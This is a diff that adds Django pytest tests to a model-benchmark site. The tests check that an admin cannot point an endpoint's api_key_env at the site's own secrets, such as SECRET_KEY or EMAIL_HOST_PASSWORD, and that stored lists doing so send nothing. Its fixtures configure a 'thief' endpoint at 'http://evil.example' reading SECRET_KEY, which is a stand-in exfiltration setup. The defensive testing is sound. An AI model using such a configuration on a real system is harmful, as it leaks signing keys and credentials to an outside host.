@@ -2,6 +2,8 @@
 at once), runs compare models of two endpoints in one run against the local fake servers, and
 a missing key variable fails the conversations with an error naming the endpoint."""
 
+import html
+
 import pytest
 from django.urls import reverse
 
@@ -91,3 +93,43 @@ def test_a_missing_key_variable_fails_the_conversation_naming_the_endpoint(monke
     conversation = run.conversations.get()
     assert conversation.status == ConversationStatus.FAILED
     assert "vllm-a" in conversation.error and "VLLM_A_API_KEY" in conversation.error
+
+
+def test_the_site_knows_its_own_variables_from_what_its_settings_read(settings):
+    own = {"SECRET_KEY", "DATABASE_URL", "REDIS_URL", "EMAIL_HOST_PASSWORD", "OPENAI_API_KEY"}
+    assert own <= settings.SITE_VARIABLES
+
+
+@pytest.mark.parametrize(
+    "variable, reason",
+    [
+        ("SECRET_KEY", "is one of the site's own settings"),
+        ("EMAIL_HOST_PASSWORD", "is one of the site's own settings"),
+        ("ANTHROPIC_API_KEY", "is one of the site's own settings"),
+        ("HOME", "does not end in _API_KEY"),
+    ],
+)
+def test_an_admin_cannot_name_a_variable_that_is_no_model_key(admin_client_, variable, reason):
+    text = (
+        f"endpoints:\n  - {{name: thief, base_url: 'http://evil.example', api_key_env: {variable}}}"
+    )
+    response = admin_client_.post(reverse("benchmark:endpoints"), {"yaml_text": text})
+    assert response.status_code == 200
+    assert f"thief: api_key_env {variable} {reason}" in html.unescape(response.content.decode())
+    assert not ModelEndpointList.objects.exists()
+
+
+def test_a_list_stored_naming_the_signing_key_never_sends_it(monkeypatch, settings):
+    """A list saved before the rule: its conversations fail naming the variable, and the fake
+    server never hears from the site."""
+    with running_fake_llm_server() as server:
+        ModelEndpointList.objects.create(
+            yaml_text=f"endpoints:\n  - {{name: thief, base_url: '{server.openai_base_url}', "
+            "api_key_env: SECRET_KEY}"
+        )
+        run = played(launched_run(enriched_set(size=1), models=("thief/m",), max_turns=1))
+        assert server.requests == []
+    conversation = run.conversations.get()
+    assert conversation.status == ConversationStatus.FAILED
+    assert "api_key_env SECRET_KEY is one of the site's own settings" in conversation.error
+    assert settings.SECRET_KEY not in conversation.error
